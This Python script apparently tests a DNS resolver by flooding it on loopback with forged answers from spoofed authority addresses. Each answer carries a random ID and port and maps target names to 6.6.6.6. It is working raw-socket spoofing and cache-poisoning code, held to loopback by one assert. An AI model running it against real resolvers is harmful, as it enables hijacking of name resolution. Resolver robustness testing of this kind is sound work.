"""Floods forged DNS answers at a resolver on loopback, as an off-path attacker would.

Every datagram claims to come from a real authority (source address and port spoofed with a
raw socket), goes to a random port of the resolver's host, and carries a random message ID
and an answer `NAME A 6.6.6.6` for one of the names being resolved. The resolver must never
believe one. Runs for a bounded time, on loopback only, and prints how many it sent.

usage: spoof.py AUTH_IP[,AUTH_IP…] AUTH_PORT TARGET_IP SECONDS NAME[,NAME…]
"""
import random
import socket
import struct
import sys
import time

authorities, port, target, seconds, names = sys.argv[1:6]
authorities = authorities.split(",")
port, seconds = int(port), float(seconds)
assert target.startswith("127."), "loopback only"


def wire(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split(".")) + b"\0"


answers = []
for name in names.split(","):
    question = wire(name) + struct.pack("!HH", 1, 1)
    answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 86400, 4) + bytes([6, 6, 6, 6])
    answers.append((question, answer))

# An attacker who knows the kernel aims at its ephemeral port range only.
with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
    low, high = (int(x) for x in f.read().split())

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
rng = random.Random(7)
deadline = time.time() + seconds
while time.time() < deadline:
    for _ in range(256):
        question, answer = rng.choice(answers)
        dns = struct.pack("!HHHHHH", rng.randrange(65536), 0x8400, 1, 1, 0, 0) + question + answer
        udp = struct.pack("!HHHH", port, rng.randrange(low, high + 1), 8 + len(dns), 0) + dns
        source = rng.choice(authorities)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(source), socket.inet_aton(target))
        try:
            raw.sendto(ip + udp, (target, 0))
            sent += 1
        except OSError:
            pass
print(sent)
